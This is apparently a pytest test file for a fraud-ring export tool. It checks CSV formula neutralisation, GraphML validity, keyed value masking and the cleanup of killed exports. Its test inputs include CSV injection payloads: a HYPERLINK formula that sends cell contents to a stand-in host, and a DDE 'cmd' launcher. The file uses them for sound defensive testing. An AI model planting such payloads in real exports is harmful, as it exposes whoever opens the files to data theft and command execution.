"""Exports a person opens: no live formulas in CSV, valid GraphML, masks that cannot be reversed,
no leftovers of killed exports (raw values in CSV errors: test_validation_messages)."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path

import networkx as nx
import polars as pl
import pytest

from syndicate.cases import EXPORT_MARKER
from syndicate.cli import main
from syndicate.masking import mask_value

T0 = datetime(2026, 1, 1)
FORMULAS = ["=HYPERLINK(\"http://x/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\tTAB"]


def formula_marketplace() -> dict[str, pl.DataFrame]:
    """Two rings whose ids, countries, kinds, values, actions and targets look like formulas."""
    ids = FORMULAS + [f"=ring{i}" for i in range(3)] + [f"ok{i}" for i in range(12)]
    n = len(ids)
    accounts = pl.DataFrame({"account_id": ids, "created_at": [T0 - timedelta(days=i) for i in range(n)],
                             "country": ["=1+1"] * n})
    signals = pl.DataFrame({"account_id": ids, "kind": ["wifi&bssid"] * 8 + ['a"<b'] * 12,
                            "value": [f"=dev{i // 4}" for i in range(n)]})
    rows = [(ids[i], "=cmd", f"-target{j}", T0 + timedelta(hours=j, seconds=i)) for j in range(8) for i in range(8)]
    events = pl.DataFrame(rows, schema=["account_id", "action", "target_id", "ts"], orient="row")
    return {"accounts": accounts, "signals": signals, "events": events}


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("export")
    data = base / "data"
    data.mkdir()
    for name, frame in formula_marketplace().items():
        frame.write_parquet(data / f"{name}.parquet")
    assert main(["run", str(data), "--out", str(base / "run"), "--quiet"]) == 0
    assert main(["export", str(base / "run"), "--top", "5", "--out", str(base / "cases"), "--reveal",
                 "--quiet"]) == 0
    return base / "cases"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_no_csv_cell_is_a_live_formula(exported):
    checked = 0
    for path in exported.rglob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    checked += 1
                    assert not cell or cell[0] not in "=+-@\t\r" or _is_number(cell), (path.name, cell)
    assert checked > 100
    members = pl.concat([pl.read_csv(path, infer_schema=False) for path in exported.rglob("members.csv")])
    assert members["account_id"].str.starts_with("'=").any(), "formula-like ids are kept, neutralised"


def test_graphml_is_valid_and_labels_nodes_by_account(exported):
    import igraph

    for path in exported.rglob("graph.graphml"):
        graph = nx.read_graphml(path)
        assert igraph.Graph.Read_GraphML(str(path)).vcount() == graph.number_of_nodes()
        for node, attributes in graph.nodes(data=True):
            assert attributes["label"] == node
            assert "known_label" not in attributes or attributes["known_label"] in (0, 1)
        names = {name for _, _, data in graph.edges(data=True) for name in data}
        assert names & {"wifi&bssid", 'a"<b'}, names


def test_masks_are_keyed_long_and_never_show_a_short_value_whole(monkeypatch, tmp_path):
    monkeypatch.delenv("SYNDICATE_MASK_KEY", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    first = mask_value("ip", "10.1.2.3")
    key_file = tmp_path / "config" / "syndicate" / "mask.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert mask_value("ip", "10.1.2.3") == first, "equal values read as equal"
    assert len(first.rsplit("#", 1)[1]) == 16
    monkeypatch.setenv("SYNDICATE_MASK_KEY", "shared secret")
    shared = mask_value("ip", "10.1.2.3")
    assert shared != first and shared == mask_value("ip", "10.1.2.3")
    for short in ("a", "ab", "abc"):
        assert mask_value("x", short).startswith("x:…#")
    assert mask_value("phone", "+84901234567").startswith("phone:+84…#")


def test_masks_match_across_processes_with_the_same_key_file(tmp_path):
    env = {**os.environ, "XDG_CONFIG_HOME": str(tmp_path / "config")}
    env.pop("SYNDICATE_MASK_KEY", None)
    code = "from syndicate.masking import mask_value; print(mask_value('device', 'dev-ring'))"
    masks = {subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True,
                            check=True).stdout for _ in range(2)}
    assert len(masks) == 1


def test_the_next_export_sweeps_temporary_folders_of_killed_exports(exported, tmp_path):
    run_dir = exported.parent / "run"
    dead = tmp_path / ".old-cases.tmp-999999999"  # no such process
    dead.mkdir()
    (dead / EXPORT_MARKER).write_text("")
    (dead / "members.csv").write_text("raw values")
    foreign = tmp_path / ".thesis.tmp-999999999"
    foreign.mkdir()
    assert main(["export", str(run_dir), "--top", "1", "--out", str(tmp_path / "cases"), "--quiet"]) == 0
    assert not dead.exists(), "a killed export's folder (maybe with raw values) is removed"
    assert foreign.exists(), "folders syndicate did not write are left alone"


def test_a_key_that_cannot_be_made_is_warned_of_once_and_masks_stay_consistent(tmp_path, monkeypatch):
    # A home that holds a file where the key's folder would go: masks use a one-off key, and the
    # run says so once, not once for every value it masks.
    import warnings

    from syndicate import masking

    (tmp_path / "config").write_text("a file, not a folder")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.delenv(masking.KEY_ENV, raising=False)
    monkeypatch.setattr(masking, "_WARNED", set())
    masking._file_key.cache_clear()
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        first = [masking.mask_value("device", f"dev-{i}") for i in range(3)]
        again = masking.mask_value("device", "dev-0")
    said = [str(w.message) for w in caught if "masking key" in str(w.message)]
    assert len(said) == 1 and said[0].startswith(
        f"cannot read or create the masking key {tmp_path / 'config' / 'syndicate' / 'mask.key'} (")
    assert "masks in this run use a one-off key" in said[0]
    assert again == first[0] and len(set(first)) == 3
